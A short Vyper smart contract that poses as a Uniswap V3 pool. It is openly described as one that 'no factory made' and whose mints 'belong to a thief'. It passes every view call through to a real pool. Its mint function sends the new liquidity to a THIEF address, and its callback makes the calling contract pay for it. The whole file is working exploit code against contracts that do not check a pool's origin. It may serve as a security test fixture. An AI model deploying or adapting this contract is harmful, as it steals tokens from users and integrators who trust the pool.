# pragma version ==0.4.3
# pragma evm-version cancun
"""
@title  A pool that no factory made
@notice Everything that it tells, its factory included, is another pool's, and so is its price. What is minted through
        it is paid for by whoever asks, and belongs to a thief.
"""

interface Pool:
    def token0() -> address: view
    def token1() -> address: view
    def mint(recipient: address, tick_lower: int24, tick_upper: int24, amount: uint128, data: Bytes[1]) -> (
        uint256, uint256
    ): nonpayable

interface Payer:
    def uniswapV3MintCallback(amount0: uint256, amount1: uint256, data: Bytes[1]): nonpayable

interface Token:
    def transfer(receiver: address, amount: uint256) -> bool: nonpayable

REAL: immutable(address)
THIEF: immutable(address)
TOKEN0: immutable(address)
TOKEN1: immutable(address)
victim: transient(address)


@deploy
def __init__(real: address, thief: address):
    REAL = real
    THIEF = thief
    TOKEN0 = staticcall Pool(real).token0()
    TOKEN1 = staticcall Pool(real).token1()


@external
def mint(recipient: address, tick_lower: int24, tick_upper: int24, amount: uint128, data: Bytes[1]) -> (
    uint256, uint256
):
    self.victim = msg.sender
    return extcall Pool(REAL).mint(THIEF, tick_lower, tick_upper, amount, b"")


@external
def uniswapV3MintCallback(amount0: uint256, amount1: uint256, data: Bytes[1]):
    extcall Payer(self.victim).uniswapV3MintCallback(amount0, amount1, b"")
    extcall Token(TOKEN0).transfer(REAL, amount0)
    extcall Token(TOKEN1).transfer(REAL, amount1)


@external
@raw_return
def __default__() -> Bytes[1024]:
    return raw_call(REAL, msg.data, max_outsize=1024, is_static_call=True)
